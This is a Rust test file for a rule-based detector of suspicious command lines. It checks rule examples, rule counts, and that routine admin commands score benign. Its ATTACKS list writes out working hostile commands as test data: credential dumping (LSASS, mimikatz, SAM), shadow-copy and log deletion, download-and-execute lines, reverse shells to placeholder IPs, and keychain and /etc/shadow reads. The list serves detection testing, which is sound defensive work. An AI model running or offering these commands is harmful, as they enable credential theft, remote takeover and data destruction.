//! The rules themselves: their examples, their bounds, and what administrators do all day.

use super::{Band, HIGH_FROM, Observation, Ruleset, band};
use crate::alert::Platform;
use serde::Deserialize;
use std::collections::{BTreeMap, BTreeSet};

#[derive(Deserialize)]
struct Examples {
    id: String,
    matches: Vec<Example>,
    differs: Vec<Example>,
}

#[derive(Deserialize, Debug)]
#[serde(untagged)]
enum Example {
    Cmdline(String),
    Fields(BTreeMap<String, String>),
}

impl Example {
    fn observation(&self, platform: Platform) -> Observation<'_> {
        let platform = Some(platform);
        match self {
            Self::Cmdline(cmdline) => Observation { platform, process_cmdline: Some(cmdline), ..Observation::EMPTY },
            Self::Fields(fields) => {
                let field = |name: &str| fields.get(name).map(String::as_str);
                Observation {
                    platform,
                    process_name: field("process"),
                    process_path: field("path"),
                    process_cmdline: field("cmdline"),
                    parent_process: field("parent"),
                    parent_cmdline: field("parent_cmdline"),
                    username: field("user"),
                    ..Observation::EMPTY
                }
            }
        }
    }
}

#[test]
fn every_rule_matches_its_examples_and_not_its_counter_examples() {
    let examples: Vec<Examples> =
        serde_json::from_str(include_str!(concat!(env!("OUT_DIR"), "/examples.json"))).expect("build.rs wrote it");
    let ruleset = Ruleset::built_in();
    let mut failures = Vec::new();
    for Examples { id, matches, differs } in &examples {
        let rule = ruleset.rules().iter().find(|rule| rule.id == *id).expect("every example has its rule");
        for platform in &rule.platforms {
            let hits = |example: &Example| {
                let observation = example.observation(*platform);
                let (evidence, staged) = ruleset.all_matches(&observation);
                evidence.iter().chain(&staged).any(|item| item == id)
            };
            failures.extend(matches.iter().filter(|e| !hits(e)).map(|e| format!("{id} does not match {e:?}")));
            failures.extend(differs.iter().filter(|e| hits(e)).map(|e| format!("{id} matches {e:?}")));
        }
    }
    assert!(failures.is_empty(), "{} failures\n{}", failures.len(), failures.join("\n"));
}

#[test]
fn there_are_enough_rules_and_each_is_whole() {
    let rules = Ruleset::built_in().rules();
    let ids: BTreeSet<&str> = rules.iter().map(|rule| rule.id.as_str()).collect();
    assert_eq!(ids.len(), rules.len());
    assert!(rules.len() >= 180, "{}", rules.len());
    for (platform, least) in [(Platform::Windows, 110), (Platform::Linux, 45), (Platform::Macos, 25)] {
        let count = rules.iter().filter(|rule| rule.platforms.contains(&platform)).count();
        assert!(count >= least, "{count} rules for {}", platform.as_str());
    }
    for rule in rules {
        assert!((0.01..=0.97).contains(&rule.weight.ratio()), "{}", rule.id);
        assert!(!rule.conditions.is_empty() && !rule.techniques.is_empty(), "{}", rule.id);
    }
}

#[test]
fn everyday_administration_is_benign() {
    let failures: Vec<String> = BENIGN
        .iter()
        .map(|line| {
            (line, Ruleset::built_in().evaluate(&Observation { process_cmdline: Some(line), ..Observation::EMPTY }))
        })
        .filter(|(_, assessment)| band(assessment.confidence) != Band::Benign)
        .map(|(line, assessment)| format!("{line}\n    {}: {:?}", assessment.confidence, assessment.evidence))
        .collect();
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

#[test]
fn well_known_attacks_are_high_without_a_model() {
    let failures: Vec<String> = ATTACKS
        .iter()
        .map(|line| {
            (line, Ruleset::built_in().evaluate(&Observation { process_cmdline: Some(line), ..Observation::EMPTY }))
        })
        .filter(|(_, assessment)| assessment.confidence < HIGH_FROM)
        .map(|(line, assessment)| format!("{line}\n    {}: {:?}", assessment.confidence, assessment.evidence))
        .collect();
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

/// What administrators, package managers and agents run.
pub(super) const BENIGN: &[&str] = &[
    r"C:\Windows\system32\ipconfig.exe /all",
    r#""C:\Windows\System32\cmd.exe" /c dir C:\Users\Public\Documents"#,
    "powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\Scripts\\Update-Inventory.ps1",
    "powershell -Command Get-Service | Where-Object Status -eq Stopped | Export-Csv C:\\Reports\\services.csv",
    r#"powershell.exe -Command "Get-ADUser -Filter * -Properties LastLogonDate | Sort-Object LastLogonDate""#,
    r"msiexec.exe /i C:\Packages\7z2301-x64.msi /qn /norestart",
    r"schtasks /query /fo LIST /v",
    r"schtasks /create /tn Backup /tr C:\Backup\backup.cmd /sc daily /st 02:00",
    r"sc query wuauserv",
    r"net use Z: \\fileserver\projects /persistent:yes",
    r"net start spooler",
    r"reg query HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion /v ProgramFilesDir",
    r"robocopy D:\Data \\nas01\backup\data /MIR /R:3 /W:5 /LOG:C:\Logs\copy.log",
    r"wmic os get caption,version",
    r"certutil -hashfile setup.exe SHA256",
    r"rundll32.exe shell32.dll,Control_RunDLL desk.cpl",
    r"regsvr32 /s C:\Windows\System32\msxml6.dll",
    r"gpupdate /force",
    r"dism /online /cleanup-image /restorehealth",
    r"choco install git -y --no-progress",
    r"netsh interface ip show config",
    r"vssadmin list shadows",
    r"wevtutil qe System /c:20 /rd:true /f:text",
    r"bcdedit /enum all",
    r"taskkill /im notepad.exe /f",
    "ssh -i ~/.ssh/id_ed25519 deploy@app01.example.test uptime",
    "sudo apt-get update && sudo apt-get install -y nginx",
    "systemctl restart nginx.service",
    "journalctl -u sshd --since today",
    "tar -czf /var/backups/etc-2026-01-05.tar.gz /etc",
    "find /var/log -name '*.gz' -mtime +30 -delete",
    "curl -fsSL https://download.docker.com/linux/ubuntu/gpg -o /etc/apt/keyrings/docker.asc",
    "rsync -az --delete /srv/www/ web02:/srv/www/",
    "docker compose -f /opt/app/compose.yaml up -d",
    "kubectl get pods --all-namespaces -o wide",
    "crontab -l",
    "python3 -m venv /opt/app/venv",
    "grep -rn 'listen 443' /etc/nginx",
    "openssl x509 -in /etc/ssl/certs/site.pem -noout -enddate",
    "useradd --system --no-create-home --shell /usr/sbin/nologin prometheus",
    "aws s3 sync /srv/site s3://example-site --delete",
    "/usr/sbin/softwareupdate --install --all",
    "brew upgrade --cask",
    "defaults write com.apple.dock autohide -bool true",
    "launchctl list",
    "system_profiler SPHardwareDataType",
    "osascript -e 'tell application \"Finder\" to empty trash'",
    "dscl . -read /Users/admin NFSHomeDirectory",
    "xattr -l /Applications/Firefox.app",
    "security find-certificate -a -p /Library/Keychains/System.keychain",
];

/// One line per behaviour that nobody should have to ask a model about.
const ATTACKS: &[&str] = &[
    r"rundll32.exe C:\windows\System32\comsvcs.dll, MiniDump 624 C:\temp\lsass.dmp full",
    r"procdump64.exe -accepteula -ma lsass.exe out.dmp",
    "mimikatz.exe privilege::debug sekurlsa::logonpasswords exit",
    r"reg save HKLM\SAM C:\Users\Public\sam.hiv",
    r#"ntdsutil "ac i ntds" "ifm" "create full c:\temp" q q"#,
    "vssadmin delete shadows /all /quiet",
    "wmic shadowcopy delete",
    "bcdedit /set {default} recoveryenabled no",
    "wbadmin delete catalog -quiet",
    "wevtutil cl Security",
    "powershell -c Set-MpPreference -DisableRealtimeMonitoring $true",
    "powershell -nop -w hidden -c \"IEX((new-object net.webclient).downloadstring('http://198.51.100.9/a'))\"",
    "certutil.exe -urlcache -split -f http://198.51.100.9/p.exe C:\\Users\\Public\\p.exe",
    "mshta.exe http://198.51.100.9/a.hta",
    "regsvr32 /s /n /u /i:http://198.51.100.9/file.sct scrobj.dll",
    "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
    "nc -e /bin/sh 203.0.113.9 4444",
    "python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"203.0.113.9\",4444));os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\",\"-i\"])'",
    "sh -c 'echo /tmp/x.so >> /etc/ld.so.preload'",
    "curl -s http://203.0.113.9/x.sh | bash",
    "security dump-keychain -d login.keychain",
    "osascript -e 'display dialog \"macOS needs your password\" default answer \"\" with hidden answer'",
    "spctl --master-disable",
    "cat /etc/shadow",
];
